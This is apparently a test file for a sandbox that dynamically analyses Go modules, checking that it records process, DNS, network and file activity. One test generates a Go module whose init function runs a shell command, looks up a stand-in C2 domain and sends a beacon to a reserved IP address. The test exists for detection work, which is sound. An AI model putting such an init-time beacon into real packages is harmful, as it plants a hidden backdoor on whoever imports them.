// End-to-end dynamic analysis against the real Docker engine (skipped only with GOSNARE_SKIP_DOCKER=1).
// The modules are generated here; their payloads name only reserved addresses and run `id`.
import { dockerTestsSkipped } from './helpers/docker-gate.js';
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Value } from '@sinclair/typebox/value';
import { DynamicResult } from '../src/result/schema.js';
import { runDynamic } from '../src/dynamic/run-dynamic.js';
const skip = dockerTestsSkipped();
let root = '';
async function writeModule(name, files) {
    const dir = join(root, name);
    for (const [rel, text] of Object.entries(files)) {
        await mkdir(dirname(join(dir, rel)), { recursive: true });
        await writeFile(join(dir, rel), text);
    }
    return dir;
}
before(async () => {
    root = await mkdtemp(join(tmpdir(), 'gosnare-e2e-'));
});
after(async () => {
    if (root)
        await rm(root, { recursive: true, force: true });
});
test('malicious-shaped init: exec argv, destination, DNS name; internal package init runs', { skip, timeout: 600_000 }, async () => {
    const dir = await writeModule('mal', {
        'go.mod': 'module example.test/e2emal\n\ngo 1.22\n',
        'mal.go': `package e2emal

import (
	"net"
	"os/exec"
	"time"

	_ "example.test/e2emal/internal/boot"
)

func init() {
	exec.Command("/bin/sh", "-c", "id").Run()
	net.LookupHost("c2.evil-example.test")
	if c, err := net.DialTimeout("tcp", "203.0.113.7:8080", 2*time.Second); err == nil {
		c.Write([]byte("BEACON e2e"))
		c.Close()
	}
}
`,
        // Not imported by anything else in a way the harness could rely on: a sibling internal package.
        'internal/boot/boot.go': 'package boot\n',
        'internal/marker/marker.go': `package marker

import "os"

func init() { os.WriteFile("/tmp/gosnare-internal-marker", []byte("ran"), 0o644) }
`,
    });
    const result = await runDynamic({ dir, path: 'example.test/e2emal' }, { phases: ['import'], timeoutMs: 30_000 });
    assert.ok(Value.Check(DynamicResult, result), JSON.stringify([...Value.Errors(DynamicResult, result)].slice(0, 3)));
    const phase = result.phases.find((p) => p.name === 'import');
    assert.equal(phase.status, 'completed', `${phase.error ?? ''} ${phase.stderrTail}`);
    const harness = phase.processes.find((p) => p.ppid === 0);
    assert.deepEqual(harness.argv, ['/opt/harness/harness']);
    const sh = phase.processes.find((p) => p.path === '/bin/sh');
    assert.ok(sh, JSON.stringify(phase.processes));
    assert.deepEqual(sh.argv, ['/bin/sh', '-c', 'id']);
    assert.equal(sh.ppid, harness.pid);
    const id = phase.processes.find((p) => p.argv[0] === 'id');
    assert.equal(id?.ppid, sh.pid);
    const c2 = phase.network.connections.find((c) => c.dst.ip === '203.0.113.7' && c.dst.port === 8080);
    assert.ok(c2, JSON.stringify(phase.network.connections));
    assert.equal(c2.proto, 'tcp');
    assert.equal(c2.pid, harness.pid);
    assert.equal(c2.firstBytesText, 'BEACON e2e');
    assert.ok(phase.network.dns.some((d) => d.name.replace(/\.$/, '') === 'c2.evil-example.test'), JSON.stringify(phase.network.dns));
    // The internal package nobody imports still ran its init.
    assert.ok(phase.files.some((f) => f.op === 'write' && f.path === '/tmp/gosnare-internal-marker'), JSON.stringify(phase.files));
    // No resolver plumbing in the connections.
    assert.equal(phase.network.connections.length, 1, JSON.stringify(phase.network.connections));
});
test('benign module: only the harness process, no connections, no DNS', { skip, timeout: 600_000 }, async () => {
    const dir = await writeModule('benign', {
        'go.mod': 'module example.test/e2ebenign\n\ngo 1.22\n',
        'b.go': `package e2ebenign

import "strings"

var Table = strings.Split("a,b,c", ",")

func init() { Table = append(Table, "d") }
`,
        'sub/s.go': 'package sub\n\nvar X = 1\n',
    });
    const result = await runDynamic({ dir, path: 'example.test/e2ebenign' }, { phases: ['import'], timeoutMs: 30_000 });
    const phase = result.phases[0];
    assert.equal(phase.status, 'completed', `${phase.error ?? ''} ${phase.stderrTail}`);
    assert.equal(phase.exitCode, 0);
    assert.deepEqual(phase.processes.map((p) => p.argv), [['/opt/harness/harness']]);
    assert.deepEqual(phase.network.connections, []);
    assert.deepEqual(phase.network.dns, []);
    assert.deepEqual(phase.files, []);
});
test('module that does not compile: build-failed with the compiler output', { skip, timeout: 600_000 }, async () => {
    const dir = await writeModule('broken', {
        'go.mod': 'module example.test/e2ebroken\n\ngo 1.22\n',
        'x.go': 'package e2ebroken\n\nfunc init() { undefinedThing() }\n',
    });
    const result = await runDynamic({ dir, path: 'example.test/e2ebroken' }, { phases: ['import'], timeoutMs: 30_000 });
    const phase = result.phases[0];
    assert.equal(phase.status, 'build-failed');
    assert.match(phase.stderrTail, /undefined: undefinedThing/);
    assert.deepEqual(phase.processes, []);
});
//# sourceMappingURL=dynamic-e2e.test.js.map